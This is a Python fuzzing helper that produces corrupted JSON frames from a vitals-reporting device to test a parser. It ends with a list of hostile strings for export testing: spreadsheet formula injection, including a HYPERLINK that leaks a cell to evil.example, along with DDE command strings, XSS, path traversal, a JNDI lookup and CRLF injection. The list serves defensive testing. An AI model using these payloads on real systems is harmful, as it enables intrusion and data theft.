"""Frames as a broken or malicious device might send them: seeded, so that a failure can be had again."""

import json
import random
from collections.abc import Callable, Iterator
from typing import Any, Final

_WORDS: Final = ["NaN", "Infinity", "-Infinity"]
_NUMBERS: Final = [*_WORDS, "1e999", "-1e999", "1e308", "-0", "0.1e-400", "1e", "0x10", "01", ".5", "+1", "9" * 400, "9" * 5_000]
_TEXTS: Final = ["", "97", "\x00", "\ud800", "\U0001f4a5", "a" * 5_000]
_VALUES: Final[list[Any]] = [None, True, False, [], {}, [[]], -1, 0, 1e300, 2**63, 2**64, *_TEXTS]
_TIMES: Final = [
    "2026-11-22T10:41:07",
    "2026-11-22T10:41:07+01:00",
    "2026-11-22T25:00:00Z",
    "0000-00-00T00:00:00Z",
    "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59.999999999Z",
    "now",
    "",
]
_ENCODINGS: Final = ["utf-16", "utf-32", "utf-16-be", "utf-7", "cp037"]


def hostile_frames(random_: random.Random, count: int, frame: Callable[[], dict[str, Any]]) -> Iterator[bytes]:
    """`count` inputs, each a good frame of `frame` (asked for its turn) that was spoiled in one of the ways below."""
    for _ in range(count):
        yield random_.choice(_WAYS)(random_, frame())


def _text(value: object) -> bytes:
    return json.dumps(value, ensure_ascii=False).encode("utf-8", "surrogatepass")


def _noise(random_: random.Random, _: dict[str, Any]) -> bytes:
    return random_.randbytes(random_.choice([0, 1, 7, 64, 1_000]))


def _flipped(random_: random.Random, frame: dict[str, Any]) -> bytes:
    """Some bytes changed."""
    raw = bytearray(_text(frame))
    for _ in range(random_.randint(1, 6)):
        raw[random_.randrange(len(raw))] = random_.randrange(256)
    return bytes(raw)


def _cut(random_: random.Random, frame: dict[str, Any]) -> bytes:
    raw = _text(frame)
    return raw[: random_.randrange(len(raw))]


def _spliced(random_: random.Random, frame: dict[str, Any]) -> bytes:
    """A piece of it taken out, doubled or moved."""
    raw = _text(frame)
    a, b = sorted(random_.choices(range(len(raw)), k=2))
    return random_.choice([raw[:a] + raw[b:], raw[:b] + raw[a:], raw[b:] + raw[:b]])


def _wrong_value(random_: random.Random, frame: dict[str, Any]) -> bytes:
    """Some value replaced by one of a wrong type or size, or a key renamed."""
    nodes: list[Any] = [frame, *frame["measurements"], *(reading for made in frame["measurements"] for reading in made["readings"])]
    node = random_.choice(nodes)
    key = random_.choice(list(node))
    if random_.random() < 0.15:
        node[random_.choice(["", "value2", "__proto__", "\u0000", "x" * 300])] = node.pop(key)
    else:
        node[key] = random_.choice(_VALUES)
    return _text(frame)


def _wrong_number(random_: random.Random, frame: dict[str, Any]) -> bytes:
    return _text(frame).replace(b"97.5", random_.choice(_NUMBERS).encode(), random_.choice([1, -1]))


def _wrong_time(random_: random.Random, frame: dict[str, Any]) -> bytes:
    frame["measurements"][0]["measured_at"] = random_.choice(_TIMES)
    return _text(frame)


def _wrong_unit(random_: random.Random, frame: dict[str, Any]) -> bytes:
    reading = random_.choice(frame["measurements"][0]["readings"])
    reading[random_.choice(["unit", "vital"])] = random_.choice(["kPa", "%", "/min", "mm[Hg]", "mmHg", "spo2", "glucose", "", None])
    return _text(frame)


def _doubled_key(random_: random.Random, frame: dict[str, Any]) -> bytes:
    key = random_.choice([b'"value":', b'"seq":', b'"vital":', b'"measurements":', b'"type":'])
    return _text(frame).replace(b": ", b":").replace(key, key + random_.choice([b"1,", b"null,", b'"x",']) + key, 1)


def _deep(random_: random.Random, frame: dict[str, Any]) -> bytes:
    depth = random_.choice([50, 1_000, 50_000])
    opening = random_.choice([b"[", b'{"a":', b'{"type":"frame","seq":1,"measurements":['])
    return random_.choice([opening * depth, _text(frame).replace(b"97.5", b"[" * depth + b"]" * depth)])


def _large(random_: random.Random, frame: dict[str, Any]) -> bytes:
    """Too many of something, or too long a text."""
    made = frame["measurements"][0]
    many = [made] * 2_001 if random_.random() < 0.1 else [{**made, "readings": made["readings"] * 9}]
    return _text({**frame, "measurements": many} if random_.random() < 0.6 else {**frame, "boot": "b" * 100_000})


def _other_encoding(random_: random.Random, frame: dict[str, Any]) -> bytes:
    return json.dumps(frame).encode(random_.choice(_ENCODINGS))


def _other_message(random_: random.Random, _: dict[str, Any]) -> bytes:
    kinds = ["welcome", "ack", "bye", "hello", "remeasure", ["frame"], None]
    return _text(random_.choice([{"type": random_.choice(kinds), "seq": 1}, None, 1, "", []]))


def _wrong_turn(random_: random.Random, frame: dict[str, Any]) -> bytes:
    frame["seq"] = random_.choice([0, -1, 1, frame["seq"] + 7, 2**53 - 1, 2**53, 1.0, "1", None])
    return _text(frame)


_WAYS: Final = (
    _noise,
    _flipped,
    _cut,
    _spliced,
    _wrong_value,
    _wrong_value,
    _wrong_number,
    _wrong_time,
    _wrong_unit,
    _doubled_key,
    _deep,
    _large,
    _other_encoding,
    _other_message,
    _wrong_turn,
)

# What a person or a device might write where words are kept, to be run by whatever opens an export.
HOSTILE_TEXTS: Final = (
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    '","=1+1","',
    '"\r\n"=1+1',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.example/x.png)",
    "[click](javascript:alert(1))",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\autoexec.bat",
    "CON",
    "a\0.csv",
    "%0d%0aSet-Cookie: x=1",
    "\u202egpj.exe",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "]]></x><y>",
    "&lol9;",
)
